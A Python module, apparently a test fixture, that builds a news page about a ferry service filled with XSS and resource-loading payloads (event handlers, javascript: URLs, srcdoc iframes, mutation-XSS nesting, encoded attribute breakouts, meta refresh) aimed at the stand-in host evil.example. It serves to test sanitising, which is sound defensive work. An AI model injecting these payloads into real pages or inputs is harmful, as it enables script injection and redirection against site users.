"""Markup that tries to run, to load or to leave, in all the ways known to whoever wrote this."""

from __future__ import annotations

#: a script that gets to run says so here
_OWN = "document.documentElement.dataset.owned=1"
_EVIL = "https://evil.example"

HEAD = f"""<base href="{_EVIL}/"><meta http-equiv="refresh" content="0; url={_EVIL}/refresh">
<link rel="stylesheet" href="{_EVIL}/a.css"><link rel="preload" as="image" href="{_EVIL}/pre.png">
<link rel="icon" href="{_EVIL}/icon.ico"><link rel="prefetch" href="{_EVIL}/prefetch"><link rel="manifest" href="{_EVIL}/m">
<style>@import url({_EVIL}/i.css); body {{ background: url({_EVIL}/bg.png) }} #fields, h1 {{ display: none }}</style>
<script>{_OWN};fetch("{_EVIL}/fetch")</script><script src="{_EVIL}/s.js"></script><script type="module" src="{_EVIL}/m.js"></script>"""

#: each stands somewhere in a page's text
PIECES = (
    f'<img src="x" onerror="{_OWN}">',
    f'<img srcset="{_EVIL}/1.png 1x" alt=\'"><script>{_OWN}</script>\'>',
    f'<picture><source srcset="{_EVIL}/2.webp"><img src="{_EVIL}/2.png" loading="eager"></picture>',
    f'<svg onload="{_OWN}"><script>{_OWN}</script><image href="{_EVIL}/svg.png"/><use href="{_EVIL}/u.svg#x"/></svg>',
    f'<svg><style><img src=x onerror="{_OWN}"></style><foreignObject><iframe src="{_EVIL}/f"></iframe></foreignObject></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_OWN}"></style></mglyph></table></mtext></math>',
    f'<math href="javascript:{_OWN}"><maction actiontype="statusline#{_EVIL}" xlink:href="javascript:{_OWN}">m</maction></math>',
    f'<iframe srcdoc="<script>parent.{_OWN}</script>"></iframe><iframe src="{_EVIL}/frame"></iframe>',
    f'<iframe src="javascript:parent.{_OWN}"></iframe><iframe src="data:text/html,<script>parent.{_OWN}</script>"></iframe>',
    f'<object data="{_EVIL}/o.swf"><param name="movie" value="{_EVIL}/o.swf"></object><embed src="{_EVIL}/e.swf">',
    f'<video poster="{_EVIL}/p.png" src="{_EVIL}/v.mp4" autoplay onplay="{_OWN}"></video><audio src="{_EVIL}/a.mp3" autoplay></audio>',
    f'<form action="{_EVIL}/form" id="f"><input name="q" autofocus onfocus="{_OWN};f.submit()"></form>',
    f'<form><input type="image" src="{_EVIL}/in.png"><button formaction="javascript:{_OWN}">Send</button></form>',
    f'<details open ontoggle="{_OWN}"><summary>More</summary>Details</details>',
    f'<p style="background: url({_EVIL}/style.png); position: fixed; inset: 0; z-index: 9999">Over it all.</p>',
    f'<a href="javascript:{_OWN}" ping="{_EVIL}/ping">one</a> <a href=" &#1;java&#10;script:{_OWN}">two</a>',
    f'<a href="{_EVIL}/out" target="_top" download>three</a><area href="{_EVIL}/area"><a xlink:href="javascript:{_OWN}">four</a>',
    f'<noscript><p title="</noscript><img src=x onerror={_OWN}>">no</p><img src="{_EVIL}/noscript.png"></noscript>',
    f'<template><img src="{_EVIL}/template.png" onerror="{_OWN}"><p>${{title}}</p></template>',
    f"<textarea></textarea><script>{_OWN}</script><select><option onclick='{_OWN}'>o</select>",
    f'<x-y onanimationstart="{_OWN}" style="animation: x 1s">custom</x-y><style>@keyframes x {{}}</style>',
    f'<p id="fields" class="legend" data-role="evil" onclick="{_OWN}">&lt;img src=x onerror=alert(1)&gt; &lt;/main&gt;</p>',
    f'<marquee onstart="{_OWN}">x</marquee><isindex action="javascript:{_OWN}"><bgsound src="{_EVIL}/bg.wav">',
    f'<table background="{_EVIL}/t.png"><tr><td background="{_EVIL}/td.png" colspan="2&quot; onclick=&quot;{_OWN}">cell</td></tr></table>',
    f'<div dir="rtl&quot; onclick=&quot;{_OWN}" lang="&quot;&gt;&lt;script&gt;{_OWN}&lt;/script&gt;">turned</div>',
    f'<p title="&quot;&gt;&lt;script&gt;{_OWN}&lt;/script&gt;">titled</p><!--><img src=x onerror="{_OWN}">-->',
    f"<xmp><img src=x onerror='{_OWN}'></xmp><listing>&lt;img onerror={_OWN}&gt;</listing>",
    "</main></div></body></html><p>After the end.</p>",
)
STORY = "The ferry across the lake will run again from Monday, the council said late last night after a long meeting."


def page_with(*pieces: str) -> str:
    """A page with a headline, two paragraphs, and whatever is given between them."""
    return (
        f'<!DOCTYPE html><html lang="en" onclick="{_OWN}"><head><title>The ferry runs again</title>{HEAD}</head>'
        f'<body onload="{_OWN}" background="{_EVIL}/body.png"><article><h1 onmouseover="{_OWN}">The ferry runs again</h1>'
        f"<p>{STORY}</p>{''.join(pieces)}<p>And {STORY}</p></article></body></html>"
    )
